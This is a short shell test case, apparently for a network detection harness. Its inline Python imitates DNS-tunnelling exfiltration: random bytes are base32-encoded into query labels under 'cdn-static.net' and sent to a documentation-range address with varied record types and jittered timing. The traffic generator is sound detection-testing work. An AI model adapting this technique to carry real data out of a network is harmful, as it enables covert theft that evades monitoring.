#!/bin/sh
. /opt/case/case.sh

python3 -c '
import base64, os, random, socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
text = base64.b32encode(os.urandom(6000)).decode().rstrip("=").lower()
parts = [text[i:i + 150] for i in range(0, len(text), 150)]
for n, part in enumerate(parts):
    labels = [part[i:i + 50] for i in range(0, len(part), 50)] + [f"s{n}", "t", "cdn-static", "net"]
    name = b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0"
    kind = random.choice([10, 15, 16, 5])
    s.sendto(random.randbytes(2) + b"\1\0\0\1\0\0\0\0\0\0" + name + bytes([0, kind, 0, 1]), ("203.0.113.53", 53))
    s.recv(1024)
    time.sleep(random.random() / 10)
raise SystemExit(len(parts) < 50)'
took_place
